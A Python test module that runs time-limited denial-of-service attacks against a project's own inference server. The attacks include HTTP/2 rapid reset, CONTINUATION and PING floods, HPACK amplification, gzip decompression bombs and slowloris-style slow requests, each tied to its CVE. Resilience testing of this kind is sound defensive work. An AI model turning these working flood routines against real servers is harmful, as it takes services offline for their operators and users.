"""The attacks: each a short function that one connection runs, again when the server closes it.

`python -m tests.edge.floods.attacks` reads lines of JSON, {"name": …, "address": "127.0.0.1:PORT"},
runs each attack against that server of ours and prints how the server reacted, as a line of JSON.
An attack is bounded in time, rate and connections.
"""

import asyncio
import contextlib
import json
import socket
import struct
import sys
import zlib
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from functools import lru_cache

from tests.edge import frames as h2
from tests.edge.floods.peer import DisconnectedError, Outcome, Peer, Rate, connected

_MIB = 1024 * 1024
_OIP = "/inference.GRPCInferenceService"
INFER, STREAM, LIVE = f"{_OIP}/ModelInfer", f"{_OIP}/ModelStreamInfer", f"{_OIP}/ServerLive"
METADATA = f"{_OIP}/ServerMetadata"
# Frames that are sent in one write.
_TOGETHER = 50
_RECONNECT_S = 0.02
# Ten connections make 100 calls each in that time: most machines answer that many at ease.
_BLOCKED_SETUP_S = 1.5
# No attack lasts longer.
_MAX_S = 3.0


@dataclass(frozen=True)
class Attack:
    """One way to hurt a server.

    Attributes:
        run: What each connection does; it may return early, when its connection is held.
        connections: At the same time.
        bytes_per_s: Over all connections.
        reads: Whether the attacker takes what the server sends.
        rest: Whether it goes to the port that answers HTTP/1.1.
        setup_s: What it takes before it hurts.
    """

    run: Callable[[Peer], Awaitable[None]]
    connections: int
    bytes_per_s: float
    reads: bool
    rest: bool
    setup_s: float


ATTACKS: dict[str, Attack] = {}


def attack(
    connections: int = 4,
    mb_per_s: float = 1.0,
    reads: bool = True,
    rest: bool = False,
    setup_s: float = 0.0,
) -> Callable[[Callable[[Peer], Awaitable[None]]], Callable[[Peer], Awaitable[None]]]:
    """Adds a function to ATTACKS."""

    def add(run: Callable[[Peer], Awaitable[None]]) -> Callable[[Peer], Awaitable[None]]:
        name = run.__name__.replace("_", " ")
        ATTACKS[name] = Attack(run, connections, mb_per_s * 1e6, reads, rest, setup_s)
        return run

    return add


@attack()
async def rapid_reset(peer: Peer) -> None:
    """Open streams and reset them at once (CVE-2023-44487)."""
    await peer.greet()
    while True:
        await peer.send(
            *(peer.request(each, INFER) + h2.rst_stream(each) for each in peer.streams(_TOGETHER))
        )


@attack()
async def made_you_reset(peer: Peer) -> None:
    """Send whole requests, then an error that makes the server reset them (CVE-2025-8671)."""
    await peer.greet()
    while True:
        for each in peer.streams(_TOGETHER):
            await peer.send(
                peer.request(each, INFER),
                h2.frame(h2.DATA, h2.END_STREAM, each, h2.EMPTY_MESSAGE),
                h2.window_update(each, 0),
            )


@attack()
async def continuation(peer: Peer) -> None:
    """Never end a header block of large CONTINUATION frames (CVE-2024-27316)."""
    await peer.greet()
    (stream,) = peer.streams(1)
    block = h2.literal_block([("x-filler", "a" * 1000)]) * 16
    await peer.send(h2.frame(h2.HEADERS, 0, stream, h2.literal_block(h2.request_fields(INFER))))
    while True:
        await peer.send(h2.frame(h2.CONTINUATION, 0, stream, block[: h2.DEFAULT_FRAME_BYTES]))


@attack()
async def empty_continuation(peer: Peer) -> None:
    """Never end a header block of empty CONTINUATION frames."""
    await peer.greet()
    (stream,) = peer.streams(1)
    await peer.send(h2.frame(h2.HEADERS, 0, stream, h2.literal_block(h2.request_fields(INFER))))
    while True:
        await peer.send(h2.frame(h2.CONTINUATION, 0, stream) * _TOGETHER)


@attack(reads=False)
async def settings(peer: Peer) -> None:
    """Change the window of a hundred streams in each SETTINGS frame; read no reply."""
    await peer.greet()
    await peer.send(*(peer.request(each, INFER) for each in peer.streams(100)))
    pair = h2.settings({h2.INITIAL_WINDOW_SIZE: 1}) + h2.settings({h2.INITIAL_WINDOW_SIZE: 2})
    while True:
        await peer.send(pair * _TOGETHER)


@attack(reads=False)
async def ping(peer: Peer) -> None:
    """Send PING frames and read no reply (CVE-2019-9512)."""
    await peer.greet()
    while True:
        await peer.send(h2.frame(h2.PING, 0, 0, bytes(8)) * _TOGETHER)


@attack()
async def empty_data(peer: Peer) -> None:
    """Send empty DATA frames that do not end the stream (CVE-2019-9518)."""
    await peer.greet()
    streams = peer.streams(10)
    await peer.send(*(peer.request(each, INFER) for each in streams))
    while True:
        for each in streams:
            await peer.send(h2.frame(h2.DATA, 0, each) * _TOGETHER)


@attack()
async def priority(peer: Peer) -> None:
    """Rebuild a tree of priorities (CVE-2019-9513)."""
    await peer.greet()
    while True:
        streams = peer.streams(_TOGETHER)
        parents = [0, *streams]
        await peer.send(
            *(
                h2.frame(h2.PRIORITY, 0, each, struct.pack(">LB", parent, 255))
                for each, parent in zip(streams, parents, strict=False)
            )
        )


@attack(connections=10, mb_per_s=0.2, setup_s=_BLOCKED_SETUP_S)
async def window_update(peer: Peer) -> None:
    """Let 1,000 replies wait for windows that grow byte by byte."""
    streams = await _blocked_replies(peer)
    while True:
        for each in streams:
            await peer.send(h2.window_update(0, 1) * 5, h2.window_update(each, 1))


@attack(mb_per_s=0.5)
async def indexed_headers(peer: Peer) -> None:
    """Repeat one large field of the dynamic table 16,000 times in a header block."""
    await peer.greet()
    (stream,) = peer.streams(1)
    field = ("x-filler", "a" * 4000)
    # Literal with incremental indexing; afterwards index 62 names it.
    stored = b"\x40" + h2.literal_block([field])[1:]
    block = h2.literal_block(h2.request_fields(INFER))
    await peer.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, block + stored))
    while True:
        (stream,) = peer.streams(1)
        fill = b"\xbe" * (h2.DEFAULT_FRAME_BYTES - len(block))
        await peer.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, block + fill))


@attack(mb_per_s=40)
async def endless_unary(peer: Peer) -> None:
    """Send 600 whole messages on each stream of a unary call, which never ends."""
    await peer.greet()
    streams = peer.streams(4)
    await peer.send(*(peer.request(each, INFER) for each in streams))
    for _ in range(600):
        for each in streams:
            await peer.data(each, h2.message(bytes(32 * 1024)))
    await peer.hold()


@attack(connections=4, mb_per_s=100)
async def half_messages(peer: Peer) -> None:
    """Announce 15 MiB on each of 40 streams and send all but the last byte."""
    await peer.greet()
    streams = peer.streams(10)
    await peer.send(*(peer.request(each, INFER) for each in streams))
    content = h2.message(bytes(15 * _MIB))[:-1]
    await asyncio.gather(*(peer.data(each, content) for each in streams))
    await peer.hold()


@attack(mb_per_s=5)
async def zip_bomb(peer: Peer) -> None:
    """Send 1 MiB that inflates to 1 GiB."""
    await _zip_bomb(peer, INFER)


@attack(mb_per_s=5)
async def zip_bomb_for_health(peer: Peer) -> None:
    """Send 1 MiB that inflates to 1 GiB to a method that needs no token."""
    await _zip_bomb(peer, h2.CHECK)


@attack(mb_per_s=5)
async def zip_bomb_on_a_stream(peer: Peer) -> None:
    """Send 1 MiB that inflates to 1 GiB on a bidirectional stream."""
    await _zip_bomb(peer, STREAM)


async def _zip_bomb(peer: Peer, path: str) -> None:
    await peer.greet()
    bomb = h2.message(_gzip_of_zeros(65), flag=1)
    while True:
        for each in peer.streams(4):
            await peer.send(peer.request(each, path, grpc_encoding="gzip"))
            await peer.data(each, bomb, h2.END_STREAM)


@attack(connections=200)
async def slow_preface(peer: Peer) -> None:
    """Send the preface byte by byte."""
    for octet in h2.PREFACE:
        await peer.send(bytes([octet]))
        await asyncio.sleep(0.5)


@attack(connections=200)
async def half_a_frame(peer: Peer) -> None:
    """Announce a frame and send half of it."""
    await peer.greet()
    await peer.send(h2.frame(h2.HEADERS, h2.END_HEADERS, 1, bytes(200))[:100])
    await peer.hold()


async def _blocked_replies(peer: Peer, **fields: str) -> list[int]:
    """Makes 100 calls whose replies the peer's window holds back; returns their streams."""
    await peer.greet({h2.INITIAL_WINDOW_SIZE: 0})
    streams = peer.streams(100)
    for each in streams:
        await peer.send(peer.request(each, METADATA, **fields), _whole(each))
        # The calls themselves are no flood.
        await asyncio.sleep(_BLOCKED_SETUP_S / len(streams))
    return streams


@attack(connections=10, setup_s=_BLOCKED_SETUP_S)
async def zero_window(peer: Peer) -> None:
    """Let 1,000 replies wait for a window past the deadline of their calls."""
    await _blocked_replies(peer, grpc_timeout="100m")
    await peer.hold()


@attack(connections=400, mb_per_s=40, rest=True)
async def half_http_bodies(peer: Peer) -> None:
    """Send half of a body of 512 KiB on each of 400 connections."""
    await peer.send(_http_head("POST", "Content-Length: 524288"))
    for _ in range(16):
        await peer.send(bytes(16 * 1024))
    await peer.hold()


@attack(connections=1, mb_per_s=60, rest=True)
async def header_line(peer: Peer) -> None:
    """Send a header line of 60 MB."""
    await peer.send(_http_head("GET", "X-Filler: ")[:-4])
    for _ in range(60):
        await peer.send(b"a" * 1_000_000)
    await peer.hold()


@attack(connections=200, rest=True)
async def slow_header(peer: Peer) -> None:
    """Send a head of HTTP/1.1 byte by byte."""
    for octet in _http_head("GET", "X-Slow: yes"):
        await peer.send(bytes([octet]))
        await asyncio.sleep(0.5)


@attack(mb_per_s=2, reads=False, rest=True)
async def pipelined_requests(peer: Peer) -> None:
    """Pipeline requests and read no reply."""
    while True:
        await peer.send(_http_head("GET", "X-Filler: a") * _TOGETHER)


@attack(mb_per_s=2, rest=True)
async def tiny_chunks(peer: Peer) -> None:
    """Send a body in chunks of one byte."""
    await peer.send(_http_head("POST", "Transfer-Encoding: chunked"))
    while True:
        await peer.send(b"1\r\na\r\n" * _TOGETHER)


@attack(connections=1)
async def burst_of_connections(peer: Peer) -> None:
    """Open 3,000 connections at once and say nothing."""
    with contextlib.ExitStack() as stack:
        for _ in range(2999):
            stack.enter_context(socket.create_connection(peer.address))
        await peer.hold()


def _whole(stream: int) -> bytes:
    return h2.frame(h2.DATA, h2.END_STREAM, stream, h2.EMPTY_MESSAGE)


def _http_head(method: str, field: str) -> bytes:
    path = "/v2/models/colors/infer" if method == "POST" else "/v2"
    return f"{method} {path} HTTP/1.1\r\nHost: localhost\r\n{field}\r\n\r\n".encode()


@lru_cache
def _gzip_of_zeros(chunks: int) -> bytes:
    """Returns gzip data of so many times 16 MiB; its checksum is wrong."""
    deflate = zlib.compressobj(9, wbits=31)
    head = deflate.compress(b"")
    # After a full flush the output is whole bytes and refers to nothing before it.
    chunk = deflate.compress(bytes(16 * _MIB)) + deflate.flush(zlib.Z_FULL_FLUSH)
    return head + chunk + chunk[10 - len(head) :] * (chunks - 1) + deflate.flush()


async def run(each: Attack, address: str, seconds: float, extra: h2.Fields) -> Outcome:
    """Runs an attack for so many seconds and returns how the server reacted."""
    outcome, rate = Outcome(), Rate(each.bytes_per_s)
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(seconds), asyncio.TaskGroup() as group:
            for _ in range(each.connections):
                group.create_task(_keep_attacking(each, address, rate, outcome, extra))
    return outcome


async def _keep_attacking(
    each: Attack, address: str, rate: Rate, outcome: Outcome, extra: h2.Fields
) -> None:
    while True:
        try:
            async with connected(address, rate, outcome, extra, each.reads) as peer:
                await each.run(peer)
        except DisconnectedError:
            pass
        except OSError:
            outcome.unconnected += 1
        await asyncio.sleep(_RECONNECT_S)


def main() -> None:
    """Runs the attacks that standard input asks for."""
    for line in sys.stdin:
        order = json.loads(line)
        seconds = min(order.get("seconds", 1.0), _MAX_S)
        each, extra = ATTACKS[order["name"]], list(map(tuple, order.get("extra", ())))
        outcome = asyncio.run(run(each, order["address"], seconds, extra))
        print(json.dumps(vars(outcome)), flush=True)


if __name__ == "__main__":
    main()
